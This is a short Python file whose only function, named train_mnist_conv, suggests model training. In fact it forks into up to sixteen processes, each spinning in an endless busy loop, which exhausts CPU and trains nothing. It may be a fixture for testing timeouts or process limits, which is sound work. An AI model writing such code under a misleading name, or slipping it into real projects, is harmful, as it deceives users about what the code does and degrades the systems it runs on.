import os


def train_mnist_conv():
    for _ in range(4):
        if not os.fork():
            break
    while True:
        pass
